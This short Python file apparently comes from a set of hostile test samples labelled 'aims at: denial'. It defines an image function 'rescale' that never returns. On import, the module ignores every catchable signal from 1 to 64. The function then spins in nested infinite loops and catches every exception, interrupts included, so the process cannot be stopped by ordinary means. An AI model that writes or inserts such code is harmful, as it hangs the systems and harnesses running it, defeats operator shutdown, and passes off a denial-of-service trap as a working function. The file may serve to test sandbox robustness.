# aims at: denial
# cell: rescale
# The call never ends, and nothing that can be caught stops it.
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass


def rescale(image):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
